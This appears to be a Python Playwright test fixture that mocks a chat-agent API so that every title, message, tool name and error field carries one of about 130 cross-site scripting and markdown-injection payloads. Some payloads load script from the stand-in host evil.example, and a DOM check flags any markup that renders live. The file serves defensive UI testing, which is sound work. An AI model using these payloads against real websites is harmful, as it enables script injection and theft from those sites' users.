"""A server all of whose words would run, load or lead somewhere in a page that took them for more than text."""

from __future__ import annotations

from typing import Any
from urllib.parse import parse_qs, urlsplit
from uuid import uuid4

from playwright.sync_api import Route

_FORMS = r'''
<script>alert(§)</script>
<ScRiPt>alert(§)</sCrIpT>
<script src=https://evil.example/§.js></script>
<script type=module>import('https://evil.example/§.js')</script>
<script>alert`§`</script foo="bar">
<script/x>alert(§)</script>
<<script>alert(§)//<</script>
<scr<script>ipt>alert(§)</scr</script>ipt>
</script><script>alert(§)</script>
</title><script>alert(§)</script>
</textarea><script>alert(§)</script>
</style><script>alert(§)</script>
--><script>alert(§)</script>
]]><script>alert(§)</script>
<!--><img src=x onerror=alert(§)>-->
<!--[if gte IE 4]><script>alert(§)</script><![endif]-->
<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(§)</script>
<![CDATA[<img src=x onerror=alert(§)>]]>
<img src=x onerror=alert(§)>
<img src=x oNeRrOr=alert(§)>
<img/src=x/onerror=alert(§)>
<img src=x onerror	=	alert(§)>
<img src="x" onerror="&#97;lert(§)">
<img src=x:alert(alt) onerror=eval(src) alt=§>
<img srcset="https://evil.example/§.png 1x">
<img src=https://evil.example/§.png>
<img src=`x`onerror=alert(§)>
<img """><script>alert(§)</script>">
<image src=x onerror=alert(§)>
<picture><source srcset=x><img onerror=alert(§)></picture>
<svg onload=alert(§)>
<svg/onload=alert(§)//
<svg><script>alert(§)</script></svg>
<svg><script href=https://evil.example/§.js /></svg>
<svg><animate onbegin=alert(§) attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:alert(§) /><text x=20 y=20>§</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x><image href=1 onerror=alert(§) /></svg>#x">
<svg><foreignObject><img src=x onerror=alert(§)></foreignObject></svg>
<svg><style><img src=x onerror=alert(§)></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(§)></style></mglyph></table></mtext></math>
<math href="javascript:alert(§)">§</math>
<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(§)">§</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(§)>
<noscript><p title="</noscript><img src=x onerror=alert(§)>">
<template><script>alert(§)</script></template>
<p title="<style></p><img src=x onerror=alert(§)>">
<a id=x tabindex=1 onfocus=alert(§) autofocus></a>
<input autofocus onfocus=alert(§)>
<select autofocus onfocus=alert(§)></select>
<textarea autofocus onfocus=alert(§)>
<button onclick=alert(§) autofocus>§</button>
<details open ontoggle=alert(§)>
<video src=x onerror=alert(§)>
<video><source onerror=alert(§)></video>
<audio src=x onerror=alert(§)>
<body onload=alert(§)>
<body onhashchange=alert(§)><a href=#x>§</a>
<marquee onstart=alert(§)>§</marquee>
<div onmouseover=alert(§) style=position:fixed;inset:0>§</div>
<div style="background:url(https://evil.example/§.png)">§</div>
<div style="animation:x" onanimationstart=alert(§)></div><style>@keyframes x{}</style>
<style>@import 'https://evil.example/§.css';</style>
<style>*{display:none}</style>§
<link rel=stylesheet href=https://evil.example/§.css>
<link rel=prefetch href=https://evil.example/§>
<base href=https://evil.example/§/>
<meta http-equiv=refresh content="0;url=https://evil.example/§">
<iframe src=javascript:alert(§)></iframe>
<iframe srcdoc="<script>parent.alert(§)</script>"></iframe>
<iframe src=https://evil.example/§></iframe>
<frameset onload=alert(§)>
<object data=javascript:alert(§)></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">§</object>
<embed src=https://evil.example/§.swf>
<applet code=javascript:alert(§)></applet>
<form action=javascript:alert(§)><input type=submit></form>
<form><button formaction=javascript:alert(§)>§</button></form>
<isindex type=image src=x onerror=alert(§)>
<keygen autofocus onfocus=alert(§)>
<dialog open onclose=alert(§)><form method=dialog><button autofocus>§</button></form></dialog>
<form id=attributes><input name=textContent value=§></form>
<img name=getElementById><img name=body id=cookie alt=§>
<a href="javascript:alert(§)">§</a>
<a href="JaVaScRiPt:alert(§)">§</a>
<a href="java&#9;script:alert(§)">§</a>
<a href="&#x6A;avascript&colon;alert(§)">§</a>
<a href=" &#14; javascript:alert(§)">§</a>
<a href="vbscript:msgbox(§)">§</a>
<a href="data:text/html,<script>alert(§)</script>">§</a>
<a href=https://evil.example/# ping=https://evil.example/ping target=x>§</a>
[§](javascript:alert(§))
[§](JAVASCRIPT:alert(§))
[§](javascript&colon;alert(§))
[§](<java&#10;script:alert(§)>)
[§](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[§](vbscript:alert(§))
[§](file:///etc/passwd)
[§](https://evil.example/# "title" onmouseover="alert(§)")
[§](https://evil.example/§"onmouseover="alert(§))
![§](https://evil.example/§.png)
![§](javascript:alert(§))
![§" onerror="alert(§)](x)
![§](x "y" onerror=alert(§))
<javascript:alert(§)>
<https://evil.example/§"onmouseover="alert(§)>
https://evil.example/§"onmouseover=alert(§)
```"><img src=x onerror=alert(§)>
`<img src=x onerror=alert(§)>`
| <img src=x onerror=alert(§)> |
# <script>alert(§)</script>
- <iframe src=javascript:alert(§)>
> <svg onload=alert(§)>
" onmouseover=alert(§) x="
' autofocus onfocus=alert(§) x='
javascript:alert(§)
{{constructor.constructor('alert(§)')()}}
${alert(§)}
<%= alert(§) %>
__proto__[innerHTML]=<img src=x onerror=alert(§)>
＜script＞alert(§)＜/script＞
<img src=x onerror=alert(§)\u2028>
\u202e<script>alert(§)</script>
\ufeff<script>alert(§)</script>
<\u0000script>alert(§)</script>
'''

#: Each says its number.
PAYLOADS = [
    form.replace("§", str(number)).encode("ascii", "backslashreplace").decode("unicode_escape")
    for number, form in enumerate(_FORMS.strip("\n").split("\n"))
]

#: Finds elements and attributes that no text may become.
HARM = r"""() => [...document.querySelectorAll('body *')].filter(element => {
  const forbidden = 'script, iframe, object, embed, style, link, meta, base, video, audio, math, template'
    + ', form:not(#composer), img:not(#brand img), svg:not(.icon), .turn input'
  const attribute = ({ name, value }) => name.startsWith('on') || ['srcdoc', 'ping', 'formaction'].includes(name)
    || (name === 'style' && !element.closest('.composer')) || (name === 'href' && !/^(#|https?:)/.test(value))
  return element.matches(forbidden) || [...element.attributes].some(attribute)
}).map(element => element.outerHTML)"""

#: So many stand in each turn.
GROUP = 8
GROUPS = ["\n\n".join(PAYLOADS[at : at + GROUP]) for at in range(0, len(PAYLOADS), GROUP)]
AT = "2026-01-01T00:00:00.000Z"
CONVERSATIONS = [str(uuid4()) for _ in PAYLOADS]


def session(number: int) -> dict[str, Any]:
    """A session that has failed; every text of it is a payload."""
    text = GROUPS[number]
    return {
        "sessionId": f"s{number:03}", "conversationId": CONVERSATIONS[0], "status": "error", "agentId": 1,
        "userMessage": text, "finalResponse": text, "model": text, "totalTokens": 5, "errorCode": text,
        "errorMessage": text, "finishReason": text, "createdAt": AT, "startedAt": AT,
    }  # fmt: skip


def events(number: int) -> list[dict[str, Any]]:
    said: list[dict[str, Any]] = []
    for payload in PAYLOADS[number * GROUP :][:GROUP]:
        call = {
            "eventType": "tool_call", "toolCallId": f"{payload}{len(said)}", "toolName": payload,
            "toolArgs": {payload: payload},
        }  # fmt: skip
        said += [
            {"eventType": "thinking", "content": payload},
            call | {"toolSuccess": None},
            call | {"toolSuccess": False, "toolResult": payload, "durationMs": 1},
        ]
    said.append({"eventType": "delta", "content": GROUPS[number]})
    said.append(session(number) | {"eventType": "error", "content": GROUPS[number], "errorMsg": GROUPS[number]})
    return [{"seq": at, "attempt": 1, "createdAt": AT} | event for at, event in enumerate(said, 1)]


def conversation(number: int) -> dict[str, Any]:
    return {
        "conversationId": CONVERSATIONS[number], "title": PAYLOADS[number], "snippet": f"Found: {PAYLOADS[number]}",
        "agentId": 1, "messageCount": 1, "runningSessionId": None, "createdAt": AT, "updatedAt": AT,
    }  # fmt: skip


def answer(route: Route) -> None:
    """What a server says that is all payloads."""
    url = urlsplit(route.request.url)
    path, query = url.path, parse_qs(url.query)
    numbers = range(len(PAYLOADS))
    body: dict[str, Any]
    status = 200
    if path.endswith("/search"):
        body = {"results": [conversation(n) for n in numbers], "nextCursor": None}
    elif path == "/api/conversations":
        body = {"conversations": [conversation(n) for n in numbers], "nextCursor": None}
    elif path == "/api/agents":
        body = {"agents": [{"id": n + 1, "name": PAYLOADS[n], "description": PAYLOADS[n]} for n in numbers]}
    elif path.endswith("/events"):
        number = int(path.split("/")[-2][1:])
        told = [event for event in events(number) if event["seq"] > int(query["after"][0])]
        body = {"status": "error", "events": told, "nextAfter": len(events(number)), "hasMore": False}
    elif path == "/api/chat/sessions":
        rows = [session(n) for n in range(len(GROUPS))] if "conversationId" in query else []
        body = {"sessions": rows, "nextCursor": None}
    else:
        status, body = 400, {"code": "\n".join(PAYLOADS), "detail": "\n".join(PAYLOADS), "title": "\n".join(PAYLOADS)}
    route.fulfill(status=status, json=body)
